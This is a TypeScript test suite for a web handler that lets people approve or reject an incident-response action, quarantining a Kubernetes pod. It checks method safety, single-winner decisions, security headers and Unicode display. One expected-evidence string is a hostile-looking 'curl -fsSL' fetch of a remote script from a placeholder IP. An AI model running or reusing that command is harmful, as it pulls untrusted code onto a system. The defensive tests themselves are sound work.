import { beforeEach, describe, expect, it } from 'vitest';
import { visible } from '../../domain/publish/visible.ts';
import { type RecordingTelemetry, recordingTelemetry } from '../../test/fakes/telemetry.ts';
import {
  ASKED_AT,
  approverConfiguration,
  INCIDENT_ID,
  linkFor,
  PACK_KEY,
  type StoryStores,
  storyApproval,
  storyStores,
} from '../../test/stories/asked-action.ts';
import { formOf, type PeopleCall, peopleEvent, postEvent } from '../../test/stories/people-event.ts';
import { type DecideDeps, decide } from './decide.ts';

const ID = storyApproval().approvalId;

let stores: StoryStores;
let telemetry: RecordingTelemetry;
let now: Date;
let deps: DecideDeps;
let link: string;

beforeEach(async () => {
  stores = await storyStores({ asked: true });
  telemetry = recordingTelemetry();
  now = new Date(ASKED_AT.getTime() + 60_000);
  deps = { ...stores, config: approverConfiguration(), telemetry, now: () => now };
  link = await linkFor(stores, 'dana');
});

const get = (call: PeopleCall = {}) => decide(deps, peopleEvent('GET', { t: link, ...call }));
const post = (body: string, call?: PeopleCall) => decide(deps, postEvent(body, call));
async function submit(decision: 'approved' | 'rejected', comment?: string, t = link) {
  return post(formOf((await get({ t })).body, decision, comment));
}
const status = async () => (await stores.approvals.get(ID))?.status;
const kinds = async () => (await stores.audit.read(INCIDENT_ID)).map(({ kind }) => kind);

describe('opening the link', () => {
  it('decides nothing, by GET, HEAD and OPTIONS, fifty times each - and can be decided afterwards', async () => {
    for (let times = 0; times < 50; times += 1) {
      expect((await get()).statusCode).toBe(200);
      const head = await decide(deps, peopleEvent('HEAD', { t: link }));
      expect([head.statusCode, head.body]).toEqual([200, '']);
      expect((await decide(deps, peopleEvent('OPTIONS', { t: link }))).headers['allow']).toBe(
        'GET, HEAD, OPTIONS, POST',
      );
    }
    expect(await status()).toBe('PENDING');
    expect(await stores.audit.read(INCIDENT_ID)).toEqual([]);
    expect((await submit('approved')).statusCode).toBe(200);
    expect(await status()).toBe('APPROVED');
  });

  it('decides nothing even when a GET carries a complete form', async () => {
    const body = formOf((await get()).body, 'approved');
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    await decide(deps, peopleEvent('GET', { t: link, body, headers }));
    await decide(deps, peopleEvent('PUT', { t: link, body, headers }));
    expect(await status()).toBe('PENDING');
  });

  it('shows the exact action, target, requests, undo, expiry, evidence and author - what is approved must be read first', async () => {
    const { body } = await get();
    for (const part of [
      'kubernetes.quarantine-pod',
      '5e1f0c9a-7f3b-4d6e-9a51-0c1d2e3f4a5b',
      'PATCH /api/v1/namespaces/payments/pods/checkout-6d9f7c5b8d-x2x9q?fieldManager=parapet',
      '&quot;policyTypes&quot;',
      'kubectl -n payments patch pod',
      'DELETE /apis/networking.k8s.io/v1/namespaces/payments/networkpolicies/',
      'The pod leaves Service checkout.',
      '2025-10-14 09:50:00 UTC (in 29 minutes)',
      'curl -fsSL http://203.0.113.7/x.sh',
      'the workload could have written this text itself',
      'Written by the rules analyst',
      storyApproval().planDigest,
      'Dana Example',
    ]) {
      expect(body).toContain(part);
    }
  });

  it('says what it could not read instead of hiding it', async () => {
    const { analysis: _analysis, ...unread } = storyApproval();
    stores = await storyStores({ asked: false });
    await stores.approvals.create(unread, 'token');
    await stores.blobs.put(PACK_KEY, '{}');
    deps = { ...deps, ...stores };
    const { statusCode, body } = await get();
    expect(statusCode).toBe(200);
    expect(body).toContain('E1, E3, E5 could not be read');
    expect(body).toContain('The analysis could not be read.');
  });

  it('keeps everything off the page but itself, and itself out of caches, frames and referrers', async () => {
    const { headers, body } = await get();
    expect(headers).toMatchObject({
      'content-security-policy': expect.stringMatching(
        /^default-src 'none'; style-src 'sha256-[\w+/]+='; form-action 'self'; frame-ancestors 'none'; base-uri 'none'$/,
      ),
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'content-type': 'text/html; charset=utf-8',
    });
    expect(body).not.toMatch(/<script|<img|<link|src=|style="/);
  });
});

describe('posting a decision', () => {
  it('approves once, in the name of the person of the link, with the audit entry', async () => {
    const reply = await submit('approved', 'Looks right.\r\nGo.');
    expect(reply.statusCode).toBe(200);
    expect(reply.body).toContain('What happens next');
    expect(await stores.approvals.get(ID)).toEqual(
      storyApproval({
        status: 'APPROVED',
        decidedBy: 'dana',
        decidedAt: now.toISOString(),
        comment: 'Looks right.\nGo.',
        votes: [{ person: 'dana', decision: 'approved', at: now.toISOString(), comment: 'Looks right.\nGo.' }],
      }),
    );
    expect(await stores.audit.read(INCIDENT_ID)).toMatchObject([
      { kind: 'approval.decided', actor: { type: 'person', id: 'dana' }, data: { decision: 'approved' } },
    ]);
    expect(telemetry.counted('ApprovalDecided', { decision: 'approved' })).toBe(1);
  });

  it('rejects as easily', async () => {
    expect((await submit('rejected')).body).toContain('this action is not executed');
    expect(await stores.approvals.get(ID)).toMatchObject({ status: 'REJECTED', decidedBy: 'dana' });
  });

  it('lets exactly one of two approvers decide at once, and tells the other who it was', async () => {
    const samsLink = await linkFor(stores, 'sam');
    const [danas, sams] = [await get(), await get({ t: samsLink })];
    const replies = await Promise.all([post(formOf(danas.body, 'approved')), post(formOf(sams.body, 'rejected'))]);
    expect(replies.map(({ statusCode }) => statusCode).sort()).toEqual([200, 409]);
    const loser = replies.find(({ statusCode }) => statusCode === 409);
    const approval = await stores.approvals.get(ID);
    const winner = approval?.decidedBy === 'dana' ? 'Dana Example approved' : 'Sam Sample rejected';
    expect(loser?.body).toContain(winner);
    expect((await kinds()).filter((kind) => kind === 'approval.decided')).toHaveLength(1);
  });

  it('answers a second click with who decided, and changes nothing', async () => {
    const page = (await get()).body;
    await post(formOf(page, 'approved'));
    const again = await post(formOf(page, 'rejected'));
    expect([again.statusCode, await status()]).toEqual([409, 'APPROVED']);
    expect(again.body).toContain('Dana Example approved this at 2025-10-14 09:21:00 UTC');
  });

  it('finds out in the transaction what changed after the page was checked', async () => {
    const body = formOf((await get()).body, 'approved');
    deps = {
      ...deps,
      approvals: {
        get: (id) => stores.approvals.get(id),
        decide: async () => {
          await stores.approvals.expire(ID, now);
          return undefined;
        },
      },
    };
    expect((await post(body)).statusCode).toBe(410);
  });

  it.each(['approvals', 'incidents', 'blobs'] as const)(
    'decides nothing while %s cannot be read (rule 9)',
    async (store) => {
      const body = formOf((await get()).body, 'approved');
      stores[store].failNext('get', new Error('unavailable'));
      const reply = await post(body);
      expect([reply.statusCode, await status()]).toEqual([503, 'PENDING']);
      expect(reply.body).not.toContain('unavailable');
    },
  );
});

describe('words on the page', () => {
  it('shows what would be invisible or would turn the reading direction', () => {
    expect(visible('a\u202Eb\u200Bc\u0000d\ue000\ud800')).toBe('a\\u{202e}b\\u{200b}c\\u{0}d\\u{e000}\ufffd');
    expect(visible('line\n\ttab é 漢 👩')).toBe('line\n\ttab é 漢 👩');
  });

  it('answers other methods without deciding', async () => {
    for (const method of ['PUT', 'DELETE', 'PATCH', 'TRACE']) {
      expect((await decide(deps, peopleEvent(method, { t: link }))).statusCode).toBe(405);
    }
    expect(await status()).toBe('PENDING');
  });

  it('is not called by anything but an HTTP API', async () => {
    await expect(decide(deps, { Records: [] })).rejects.toThrow();
  });
});
